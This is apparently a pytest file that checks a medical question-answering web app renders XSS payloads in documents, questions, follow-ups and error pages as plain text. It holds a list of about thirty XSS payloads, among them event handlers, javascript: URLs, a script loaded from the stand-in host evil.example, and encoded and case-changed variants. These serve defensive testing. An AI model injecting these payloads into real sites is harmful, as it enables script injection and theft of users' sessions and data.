"""XSS: payloads in document titles, text and metadata, and in questions, render as text (0 executable markup)."""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup
from fastapi.testclient import TestClient

from .web_support import build_library, executable_markup, make_app

BASE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "{{ 7*7 }}{% if 1 %}x{% endif %}<%= 7*7 %>",
    '"><svg/onload=alert(1)>',
    "'-alert(1)-'",
]


def _contexts(p: str) -> list[str]:
    """Each payload raw, mid-sentence, breaking out of an attribute, upper-cased, entity- and URL-encoded."""
    return [
        p,
        f"Evidence summary {p} continued text",
        f'" {p} x="',
        p.upper(),
        html.escape(p),
        quote(p),
    ]


PAYLOADS = list(dict.fromkeys(c for p in BASE_PAYLOADS for c in _contexts(p)))


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 150


def _doc(i: int, payload: str) -> dict:
    # Each document has its own made-up drug name, so one question retrieves it.
    return {
        "_id": f"xss-{i}",
        "title": f"{payload} Zorblax{i} guideline",
        "text": f"Zorblax{i} is recommended for pretend syndrome. {payload} Zorblax{i} is given once daily.",
        "metadata": {
            "type": "guideline" if i % 2 else "rct",
            "year": 2020,
            "source": payload,
            "url": payload if i % 3 else "javascript:alert(1)",
            "doi": payload,
            "pmid": payload,
            "sections": [
                {"label": payload[:40], "text": f"Zorblax{i} is recommended for pretend syndrome. {payload}"},
                {"label": "Dosing", "text": f"Zorblax{i} is given once daily. {payload}"},
            ],
        },
    }


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    path = build_library(tmp_path_factory.mktemp("xss") / "library", [_doc(i, p) for i, p in enumerate(PAYLOADS)])
    with TestClient(make_app(path, ask_rate_per_minute=100_000)) as c:
        yield c


def _check(html_text: str, where: str) -> None:
    assert executable_markup(html_text) == [], where


def test_payloads_in_documents_render_as_text(client: TestClient) -> None:
    cited = 0
    for i, payload in enumerate(PAYLOADS):
        art = client.post("/api/ask", json={"question": f"Is zorblax{i} recommended for pretend syndrome?"}).json()
        cited += any(r["doc_id"] == f"xss-{i}" for r in art["references"])
        page = client.get(art["url"])
        assert page.status_code == 200
        _check(page.text, f"document payload {i}: {payload!r}")
    # The test means something only if the payload documents are actually shown.
    assert cited >= 0.9 * len(PAYLOADS)


def test_payloads_in_questions_render_as_text(client: TestClient) -> None:
    for i, payload in enumerate(PAYLOADS):
        question = f"{payload} Is zorblax{i} recommended for pretend syndrome?" if i % 2 else payload
        r = client.post("/ask", data={"question": question}, follow_redirects=False)
        assert r.status_code == 303, r.text
        page = client.get(r.headers["location"])
        _check(page.text, f"question payload {i}: {payload!r}")
        shown = BeautifulSoup(page.text, "html.parser").select_one(".question-asked").get_text()
        assert "<" not in payload or "<" in shown  # shown as the text the user typed, not as markup
    # Search results and listings show the stored questions and titles.
    _check(client.get("/").text, "ask page listings")
    for payload in PAYLOADS[::7]:
        _check(client.get("/", params={"q": payload[:200]}).text, f"search {payload!r}")


def test_payloads_in_follow_ups_and_error_pages(client: TestClient) -> None:
    art = client.post("/api/ask", json={"question": "Is zorblax1 recommended for pretend syndrome?"}).json()
    for payload in PAYLOADS[::5]:
        r = client.post(f"/articles/{art['id']}/followup", data={"question": payload}, follow_redirects=False)
        assert r.status_code == 303
        _check(client.get(r.headers["location"]).text, f"follow-up {payload!r}")
        _check(client.get(f"/articles/{quote(payload, safe='')}").text, f"404 for {payload!r}")
        _check(client.get(f"{art['url']}?audience={quote(payload, safe='')}").text, f"422 for {payload!r}")
